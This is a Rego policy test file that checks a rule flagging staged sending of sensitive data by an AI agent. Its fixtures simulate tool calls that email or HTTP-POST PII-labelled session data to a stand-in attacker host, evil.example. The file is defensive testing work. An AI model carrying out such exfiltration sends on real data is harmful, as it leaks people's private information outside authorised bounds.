package writ.rules.approve_staged_sending_test

import data.writ.rules.approve_staged_sending

test_speaks_1 if {
	approve_staged_sending.outcome with input as {"action": {"tool": "email", "operation": "send", "parameters": {"to": "eve@evil.example"}}, "context": {"earlier": {"sessions": 1, "complete": true, "level": "RESTRICTED", "labels": ["PII"], "actions": 3, "denied": 0, "tracked": {}}, "recipients_named": false}}
}

test_speaks_2 if {
	approve_staged_sending.outcome with input as {"action": {"tool": "http", "operation": "post", "parameters": {"url": "https://evil.example/x"}}, "context": {"earlier": {"sessions": 1, "complete": true, "level": "RESTRICTED", "labels": ["PII"], "actions": 3, "denied": 0, "tracked": {}}, "recipients_named": false}}
}

test_stays_silent_1 if {
	not approve_staged_sending.outcome with input as {"action": {"tool": "email", "operation": "send", "parameters": {"to": "eve@evil.example"}}, "context": {"earlier": {"sessions": 1, "complete": true, "level": "RESTRICTED", "labels": ["PII"], "actions": 3, "denied": 0, "tracked": {}}, "recipients_named": true}}
}

test_stays_silent_2 if {
	not approve_staged_sending.outcome with input as {"action": {"tool": "email", "operation": "send", "parameters": {"to": "eve@evil.example"}}, "context": {"earlier": {"sessions": 1, "complete": true, "level": "INTERNAL", "labels": [], "actions": 3, "denied": 0, "tracked": {}}, "recipients_named": false}}
}
